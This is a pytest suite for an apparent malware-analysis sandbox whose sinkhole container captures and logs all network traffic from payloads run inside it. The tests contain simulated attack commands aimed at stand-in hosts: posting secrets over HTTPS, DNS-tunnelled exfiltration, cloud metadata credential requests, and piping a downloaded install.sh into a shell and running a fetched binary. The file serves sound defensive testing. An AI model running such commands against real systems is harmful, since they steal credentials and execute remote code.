"""The sinkhole in a real container: a joined container finds a network, and all it sends is kept."""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from sandbox.image import REPOSITORY

pytestmark = [pytest.mark.docker]

ROOT = Path(__file__).parents[2]
_BASES = ("docker", "images", "--format", "{{.Repository}}:{{.Tag}}", f"{REPOSITORY}-base")
MOUNT = ("-v", f"{ROOT / 'sandbox'}:/opt/sandbox:ro", "-e", "PYTHONPATH=/opt")
POWERS = ("NET_ADMIN", "NET_BIND_SERVICE", "SETUID", "SETGID")
BOX = ("--cap-drop=ALL", "--security-opt=no-new-privileges", "--read-only", "--tmpfs=/tmp:exec")


def base_image() -> str:
    """The sandbox image's first layer, which has no entry point; empty if none was built here."""
    if not shutil.which("docker"):
        return ""
    found = subprocess.run(_BASES, capture_output=True, text=True, check=False).stdout.split()
    return found[0] if found else ""


IMAGE = base_image()


def docker(*words: str, text: str = "") -> str:
    done = subprocess.run(
        ["docker", *words], input=text, capture_output=True, text=True, check=False, timeout=90
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


@dataclass(frozen=True)
class Sinkhole:
    """A running one."""

    name: str
    folder: Path

    def records(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in docker("logs", self.name).splitlines()]

    def of(self, kind: str, **fields: object) -> list[dict[str, Any]]:
        """Records of a kind with these fields; waits a moment for the first."""
        for _ in range(40):
            found = [
                one
                for one in self.records()
                if one["kind"] == kind and fields.items() <= one.items()
            ]
            if found:
                return found
            time.sleep(0.25)
        raise AssertionError((kind, fields, self.records()))

    def join(self, script: str, program: Sequence[str] = ("sh", "-s")) -> str:
        """Run a script as a payload would run."""
        return docker(
            *("run", "--rm", "-i", "--user=1000", *BOX, f"--network=container:{self.name}"),
            *("-v", f"{self.folder}:/trust:ro", "-e", "CURL_CA_BUNDLE=/trust/ca.pem"),
            *(IMAGE, *program),
            text=script,
        )

    def python(self, script: str) -> str:
        return self.join(script, ("python3", "-"))


def sent(record: dict[str, Any]) -> bytes:
    return base64.b64decode(record["data"])


@pytest.fixture(scope="module")
def sinkhole(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sinkhole]:
    if not IMAGE:
        pytest.skip("needs `cratescope sandbox build-image`")
    name, folder = f"cratescope-test-{uuid4().hex[:12]}", tmp_path_factory.mktemp("trust")
    folder.chmod(0o755)
    powers = [f"--cap-add={one}" for one in POWERS]
    six = "--sysctl=net.ipv6.conf.all.disable_ipv6=0"
    serve = ("python3", "-Bm", "sandbox.guest.sinkhole", "--seed=tests")
    run = ("run", "-d", "--name", name, "--network=none", *BOX, *powers, six, *MOUNT, IMAGE, *serve)
    try:
        docker(*run)
        found = Sinkhole(name, folder)
        (ready,) = found.of("ready")
        (folder / "ca.pem").write_text(ready["ca"])
        yield found
    finally:
        subprocess.run(["docker", "rm", "-f", name], capture_output=True, check=False)


def test_it_is_ready_in_its_first_record(sinkhole: Sinkhole) -> None:
    first = sinkhole.records()[0]
    assert (first["kind"], first["sequence"]) == ("ready", 1)


def test_it_has_dropped_root_and_every_capability(sinkhole: Sinkhole) -> None:
    status = docker("exec", sinkhole.name, "cat", "/proc/1/status")
    fields = dict(line.split(":\t", 1) for line in status.splitlines())
    assert fields["Uid"].split() == ["998"] * 4
    assert {fields[name] for name in ("CapPrm", "CapEff", "CapInh", "CapAmb")} == {"0" * 16}


def test_a_joined_container_sees_an_ordinary_network(sinkhole: Sinkhole) -> None:
    seen = sinkhole.join("ip -o -4 addr show eth0; ip route get 93.184.216.34; ip -6 route")
    assert "inet 10." in seen
    assert "via 10." in seen
    assert "default via fd" in seen


def test_https_by_name_is_decrypted(sinkhole: Sinkhole) -> None:
    reply = sinkhole.join("curl -sS -m 9 https://collect.invalid/in?a=1 -d secret=tls")
    assert json.loads(reply)["ok"]
    (found,) = sinkhole.of("connection", host="collect.invalid")
    wanted = {"protocol": "https", "method": "POST", "target": "/in?a=1", "port": 443}
    assert wanted.items() <= found.items()
    assert sent(found).endswith(b"secret=tls")


def test_https_by_address_is_decrypted(sinkhole: Sinkhole) -> None:
    sinkhole.join("curl -sS -m 9 https://203.0.113.9:8443/ -d secret=address")
    (found,) = sinkhole.of("connection", address="203.0.113.9", port=8443)
    assert sent(found).endswith(b"secret=address")


def test_a_refused_handshake_keeps_what_was_said_in_clear(sinkhole: Sinkhole) -> None:
    sinkhole.join("unset CURL_CA_BUNDLE; curl -sS -m 9 https://pinned.invalid/ || true")
    (found,) = sinkhole.of("connection", sni="pinned.invalid")
    assert (found["is_readable"], found["protocol"]) == (False, "tls")
    assert found["alpn"] == ["h2", "http/1.1"]
    assert b"pinned.invalid" in sent(found)


def test_raw_bytes_to_any_address_and_port_are_kept(sinkhole: Sinkhole) -> None:
    sinkhole.python("import socket\nsocket.create_connection(('192.0.2.7', 4444)).send(b'\\0raw')")
    (found,) = sinkhole.of("connection", address="192.0.2.7", port=4444)
    assert (found["protocol"], sent(found)) == ("tcp", b"\0raw")


def test_raw_bytes_over_ipv6_are_kept(sinkhole: Sinkhole) -> None:
    sinkhole.python("import socket\nsocket.create_connection(('2001:db8::7', 4445)).send(b'six')")
    (found,) = sinkhole.of("connection", address="2001:db8::7", port=4445)
    assert sent(found) == b"six"


@pytest.mark.parametrize(
    ("family", "address"), [("AF_INET", "192.0.2.9"), ("AF_INET6", "2001:db8::9")]
)
def test_datagrams_are_kept_with_their_destination(
    sinkhole: Sinkhole, family: str, address: str
) -> None:
    sinkhole.python(
        "import socket\n"
        f"socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'datagram', ('{address}', 999))"
    )
    (found,) = sinkhole.of("datagram", address=address, port=999)
    assert (found["protocol"], sent(found)) == ("udp", b"datagram")


def test_echo_requests_are_answered_and_kept(sinkhole: Sinkhole) -> None:
    script = (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)\ns.settimeout(5)\n"
        "s.connect(('192.0.2.1', 0))\ns.send(b'\\x08\\0\\0\\0\\0\\1\\0\\1secret')\nprint(s.recv(99))"
    )
    assert "secret" in sinkhole.python(script)
    (found,) = sinkhole.of("datagram", address="192.0.2.1")
    assert (found["protocol"], sent(found)[-6:]) == ("icmp", b"secret")


def test_lookups_of_every_type_are_kept(sinkhole: Sinkhole) -> None:
    query = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6c2Vjcm\\4exfi\\7invalid\\0\\0\\x10\\0\\1'"
    script = (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\n"
        f"s.sendto({query}, ('192.0.2.53', 53))\nprint(s.recv(999))"
    )
    assert "v=spf1" in sinkhole.python(script)
    assert sinkhole.of("dns", name="c2Vjcm.exfi.invalid", type="TXT")


def test_metadata_services_answer(sinkhole: Sinkhole) -> None:
    role = "http://169.254.169.254/latest/meta-data/iam/security-credentials/build-runner"
    assert json.loads(sinkhole.join(f"curl -sS -m 9 {role}"))["AccessKeyId"].startswith("ASIA")
    google = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default"
    token = sinkhole.join(f"curl -sS -m 9 -H 'Metadata-Flavor: Google' {google}/token")
    assert json.loads(token)["token_type"] == "Bearer"


def test_chunked_multipart_arrives_whole(sinkhole: Sinkhole) -> None:
    sinkhole.join(
        "head -c 300000 /dev/zero | tr '\\0' x > /tmp/f; curl -sS -m 9"
        " -H 'Transfer-Encoding: chunked' -F f=@/tmp/f http://upload.invalid/chunks"
    )
    (found,) = sinkhole.of("connection", target="/chunks")
    assert b"x" * 300_000 in sent(found)


def test_second_stages_run_and_leave_their_mark(sinkhole: Sinkhole) -> None:
    (ready,) = sinkhole.of("ready")
    traced = sinkhole.join(
        "cd /tmp; curl -sS -m 9 http://cdn.invalid/install.sh | strace -e trace=/open sh 2>&1;"
        "curl -sS -m 9 http://cdn.invalid/payload.elf -o p; chmod +x p;"
        "strace -e trace=/open ./p 2>&1"
    )
    assert traced.count(ready["marker"]) == 2
    assert traced.count("+++ exited with 0 +++") == 2


def test_a_server_of_ones_own_is_left_alone(sinkhole: Sinkhole) -> None:
    script = (
        "import socket\nl = socket.create_server(('127.0.0.1', 0))\n"
        "c = socket.create_connection(l.getsockname())\nl.accept()[0].send(b'own')\n"
        "print(c.recv(9))"
    )
    assert "own" in sinkhole.python(script)


def test_refusing_is_switched_while_it_runs(sinkhole: Sinkhole) -> None:
    ask = "curl -sS -m 9 http://192.0.2.77/ >/dev/null && echo yes || echo no"
    name = "getent hosts refused.invalid && echo yes || echo no"
    docker("kill", "-s", "USR1", sinkhole.name)
    sinkhole.of("mode", mode="refuse")
    assert sinkhole.join(f"{ask};{name}").split() == ["no", "no"]
    docker("kill", "-s", "USR2", sinkhole.name)
    sinkhole.of("mode", mode="answer")
    assert sinkhole.join(ask).split() == ["yes"]
    assert sinkhole.of("connection", address="192.0.2.77", answer="refused")


def test_a_flood_of_ports_does_not_hide_what_comes_after(sinkhole: Sinkhole) -> None:
    sinkhole.python(
        "import socket\nheld = []\n"
        "for port in range(20000, 21000):\n"
        "    held.append(socket.create_connection(('192.0.2.66', port), 10))\n"
        "last = socket.create_connection(('192.0.2.67', 9), 10)\nlast.send(b'after')\nlast.close()"
    )
    (found,) = sinkhole.of("connection", address="192.0.2.67")
    assert sent(found) == b"after"
